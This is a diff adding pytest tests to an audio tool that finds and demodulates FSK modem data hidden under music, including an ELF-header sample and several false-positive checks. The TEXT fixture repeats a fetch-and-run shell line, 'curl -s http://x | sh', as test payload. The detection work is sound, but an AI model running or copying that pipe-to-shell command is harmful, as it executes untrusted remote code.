@@ -19,15 +19,22 @@ from audiomodel.modem import (
     COMMON_MODEMS,
     MIN_COHERENCE,
     TURN_TAKING_GATE,
+    WHOLE_CLOCK_MIN_Z,
     _ChunkTransform,
     _clock_by_phase,
     _crossings,
     _minimodem_rate,
     _minimodem_tones,
+    _plan_clock,
+    _polarity_rank,
     _turn_taking,
+    _whole_chunk_clock,
+    _whole_chunk_keying,
+    demodulate_fsk,
     reduced_rate,
     scan_modem,
 )
+from audiomodel.modem_music import KEYED_BLOCK_MAX, block_turns, keyed_stretch
 
 RATE = 48000
 TEXT = b"The quick brown fox jumps over the lazy dog. curl -s http://x | sh\n" * 40
@@ -221,3 +228,120 @@ def test_changes_jittered_off_their_clock_keep_its_phase() -> None:
     assert abs(found - baud) < 0.01 * baud
     assert coherence >= MIN_COHERENCE
     assert times.size > 500
+
+
+# -- a modem as loud as the music: demodulated where its tones take turns, read in the polarity
+# that carries data, clocked at the rate its tones name (over the whole chunk where a fast
+# modem's single changes time no clock); music alone keys none of it
+
+RANDOM = bytes(np.random.default_rng(11).integers(0, 256, 2000, dtype=np.uint8))
+
+
+def _reduced(y: npt.NDArray[np.number]) -> tuple[npt.NDArray[np.float64], float]:
+    factor, rate = reduced_rate(RATE)
+    x = np.asarray(y, dtype=np.float64)
+    return x[: x.size // factor * factor].reshape(-1, factor).mean(axis=1), rate
+
+
+# -- where the tones take turns -------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("level_db", "seed"), [(0.0, 1), (0.0, 2), (3.0, 3)])
+def test_the_stretch_demodulated_is_where_the_tones_take_turns(level_db: float, seed: int) -> None:
+    # Bell 202's tones as loud as held chords: the music fills both tone bands before and after
+    # the burst, so where the tones are on does not say where the modem is
+    modem = fsk(RANDOM[:480], 1200.0, 1200.0, 2200.0)
+    x, rate = _reduced(mix(modem, level_db, BURST_AT_S, seed))
+    stretch = keyed_stretch(x, rate, 1200.0, 2200.0, 1200.0)
+    assert stretch is not None
+    start, end = stretch[0] / rate, stretch[1] / rate
+    burst_end = BURST_AT_S + modem.size / RATE
+    assert BURST_AT_S - 0.6 <= start <= BURST_AT_S + 0.3
+    assert burst_end - 0.3 <= end <= burst_end + 0.6
+
+
+@pytest.mark.parametrize("seed", [4, 5, 6])
+def test_held_chords_have_no_stretch_whose_tone_bands_take_turns(seed: int) -> None:
+    x, rate = _reduced(chords(8.0, seed))
+    for f_low, f_high, baud in ((1200.0, 2200.0, 1200.0), (1070.0, 1270.0, 300.0)):
+        assert keyed_stretch(x, rate, f_low, f_high, baud) is None
+        assert np.mean(block_turns(x, rate, f_low, f_high, baud) <= KEYED_BLOCK_MAX) < 0.1
+
+
+# -- the polarity that carries data ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("level_db", "edge_s", "seed"), [(3.0, 0.5, 0), (0.0, 0.3, 3)])
+def test_an_executable_is_read_in_the_polarity_that_carries_data(
+    level_db: float, edge_s: float, seed: int
+) -> None:
+    # zero-rich bytes read with mark and space swapped frame as 0xFF nearly as validly; with
+    # chords at the edges of the stretch the swapped reading frames better (0.87 against 0.82)
+    elf = b"\x7fELF\x02\x01\x01" + bytes(57) + b"\x03\x00>\x00\x01" + bytes(40)
+    modem = fsk(elf, 300.0, 1270.0, 1070.0)
+    y = mix(modem, level_db, edge_s, seed)
+    x, rate = _reduced(y[: int((2 * edge_s + modem.size / RATE) * RATE)])
+    demodulated = demodulate_fsk(x, rate, 1070.0, 1270.0, 300.0)
+    assert demodulated.mark_hz == 1270.0
+    assert b"ELF" in demodulated.data
+    assert _polarity_rank(demodulated)[0]  # not an idle mark's 0xFF
+
+
+# -- the rate the tones name -----------------------------------------------------------------
+
+
+def test_bell_103_tones_give_a_clock_that_also_fits_a_slower_one_its_own_rate() -> None:
+    # a zero-rich stream at 300 Bd changes at each frame's start and stop bits only: every
+    # interval between changes of one direction is 10 symbols, which a clock 2.5x slower fits
+    frames = np.arange(120) * 10.0
+    times = np.sort(np.concatenate((frames, frames + 9.0))) / 300.0
+    baud, coherence = _plan_clock(times, 1070.0, 1270.0, 120.0, 0.95)
+    assert abs(baud - 300.0) < 3.0
+    assert coherence > 0.9
+    # tones no standard plan has keep the clock found
+    assert _plan_clock(times, 2000.0, 2300.0, 120.0, 0.95) == (120.0, 0.95)
+
+
+def _chunk_at(y: npt.NDArray[np.number], start_s: float) -> tuple[_ChunkTransform, float]:
+    x, rate = _reduced(y)
+    at = int(start_s * rate)
+    chunk = _ChunkTransform.of(x[at : at + CHUNK], rate)
+    assert chunk is not None
+    return chunk, rate
+
+
+@pytest.mark.parametrize(("level_db", "seed"), [(3.0, 0), (3.0, 1), (0.0, 0)])
+def test_a_4800_baud_minimodem_plan_under_chords_is_found_by_its_whole_chunk_clock(
+    level_db: float, seed: int
+) -> None:
+    # minimodem's 4800 Bd plan (3000/7000 Hz) as loud as held chords: the ~0.2 s the pair
+    # test times holds too few clean changes for a clock, the whole chunk keeps the named one
+    modem = fsk(RANDOM[:1920], 4800.0, 3000.0, 7000.0)
+    y = mix(modem, level_db, BURST_AT_S, seed)
+    bauds = [float(str(e["baud"])) for e in modem_findings(y)]
+    assert bauds, f"4800 Bd FSK {level_db:+} dB under chords (seed {seed}) was missed"
+    assert any(abs(b - 4800.0) < 0.01 * 4800.0 for b in bauds)
+    chunk, rate = _chunk_at(y, BURST_AT_S)
+    found = _whole_chunk_clock(chunk, rate, 3000.0, 7000.0, 4800.0)
+    assert found is not None
+    assert abs(found[0] - 4800.0) < 0.005 * 4800.0
+    assert found[3] >= WHOLE_CLOCK_MIN_Z
+
+
+@pytest.mark.parametrize("seed", [4, 5, 6])
+def test_held_chords_keep_no_clock_a_plan_names(seed: int) -> None:
+    chunk, rate = _chunk_at(chords(4.0, seed), 0.5)
+    spectra = {chunk.x.size: chunk.spectrum}
+    assert _whole_chunk_keying(chunk, rate, spectra, [], 0.0, 2.7) is None
+
+
+def test_a_steady_beat_at_a_named_rate_is_no_modem() -> None:
+    # two partials 2400 Hz apart beat at exactly minimodem's 2400 Bd inside its tone bands:
+    # a perfect clock, but the "symbols" repeat a cycle of one or two
+    n = 4 * RATE
+    t = np.arange(n) / RATE
+    y = sum(np.sin(2 * np.pi * f * t) for f in (1500.0, 3900.0, 4100.0, 6300.0))
+    y = y + np.random.default_rng(3).normal(0, 0.01, n)
+    chunk, rate = _chunk_at(y, 0.5)
+    assert _whole_chunk_clock(chunk, rate, 1800.0, 3800.0, 2400.0) is None
+    assert not modem_findings(np.rint(0.2 * y / np.abs(y).max() * 32767).astype(np.int16))
